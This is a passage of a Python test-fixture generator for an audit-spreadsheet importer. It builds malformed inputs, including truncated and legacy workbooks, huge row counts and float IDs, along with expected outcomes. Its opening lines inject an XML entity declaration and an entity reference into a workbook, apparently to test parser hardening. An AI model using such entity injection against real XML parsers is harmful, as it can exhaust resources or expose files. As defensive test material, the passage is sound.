            b = re.sub(rb"^(<\?xml[^>]*\?>)?", lambda m: b'<?xml version="1.0"?>' + ents.encode(), b, count=1)
            b = b.replace(b"Families First North", b"&j;", 1)
        return b
    put(d + "/audits.xlsx", xlsx(A_COLS, base_audits(), edit=edit))


@case("D13_truncated", "The first 60% of a workbook (an interrupted copy)", "reject_file", None, 0, 0, [],
      [("damaged", "incomplete", "corrupt", "truncated")], "copy the file again")
def _(d):
    b = xlsx(A_COLS, base_audits())
    put(d + "/audits.xlsx", b[:int(len(b) * .6)])


@case("D14_old_xls", "A binary .xls workbook (Excel 97-2003)", "reject_file", None, 0, 0, [], [(".xls", "97")],
      "open it in Excel and save as .xlsx")
def _(d): put(d + "/audits.xls", ole({"Workbook": b"\x09\x08\x10\x00\x00\x06\x05\x00" + b"\0" * 4096}))


@case("D15_last_row_touched", "A formatted cell in row 1,048,576 makes the used range a million rows", "accept", 16, 16, 0,
      also=["answers within 30 seconds; peak memory under 1 GB"])
def _(d):
    def hook(wb, ws): ws.cell(1048576, 9).value = " "
    put(d + "/audits.xlsx", xlsx(A_COLS, base_audits(), hook=hook))


@case("D16_ids_as_floats", "audit_id stored as numbers 101.0, 102.0 in both files", "accept_with_warning", 16, 16, 0,
      [at(2, "audit_id", "audits")], [("number", "text")], "format the column as text",
      also=["ids read '101', not '101.0', and match the moderations"])
def _(d):
    a, m = base_audits(), base_mods()
    for x in a: x[0] = 100.0 + int(x[0][4:])
    for x in m: x[0] = str(100 + int(x[0][4:]))
    put(d + "/audits.xlsx", xlsx(A_COLS, a))
    put(d + "/moderations.csv", csv_text(M_COLS, m))


MANY_ROWS = 1_000_000  # a test asks for fewer


@case("E01_million_rows", "A clean CSV of one million rows (made only with --big)", "accept", 1000000, 1000000, 0, big=True,
      also=["finishes within 5 minutes; peak memory under 4 GB"])
def _(d):
    b = base_audits()
    os.makedirs(d, exist_ok=True)
    with open(d + "/audits.csv", "w", newline="", encoding="utf-8") as f:
        w = csv.writer(f)
        w.writerow(A_COLS)
        for k in range(MANY_ROWS):
            r = list(b[k % 16])
            r[0], r[1] = f"AUD-{k // 2:07d}", f"C{k // 2:07d}"
            r[7] = ["Assessment", "Child's voice"][k % 2]
            w.writerow(r)


# ------------------------------------------------------------------------ main
def main(argv=None):
    global STYLE
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("outdir")
    p.add_argument("--quarter-style", choices=["fy", "cal"], default="fy",
                   help="fy: '2019-20 Q3'; cal: '2019Q4'")
    p.add_argument("--big", action="store_true")
    p.add_argument("--only", nargs="*")
    a = p.parse_args(argv)
    STYLE = a.quarter_style
    out = []
    clean = os.path.join(a.outdir, "clean")
    put(clean + "/audits.csv", audits_csv())
    put(clean + "/moderations.csv", mods_csv())
    for c in CASES:
        if (c["big"] and not a.big) or (a.only and c["id"] not in a.only):
            continue
        d = os.path.join(a.outdir, c["id"])
        c["fn"](d)
        here = os.listdir(d)
        if not any(n.startswith("audits") for n in here):
            put(d + "/audits.csv", audits_csv())
        if not any(n.startswith("moderations") for n in here):
            put(d + "/moderations.csv", mods_csv())
        e = {k: v for k, v in c.items() if k not in ("fn", "big")}
        e["files"] = sorted(os.listdir(d))
        e["rows_loaded"], e["rows_quarantined"] = e.pop("loaded"), e.pop("quarantined")
        out.append(e)
    put(os.path.join(a.outdir, "expectations.json"), json.dumps(out, indent=1, ensure_ascii=False) + "\n")
    print(f"{len(out)} cases written to {a.outdir}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
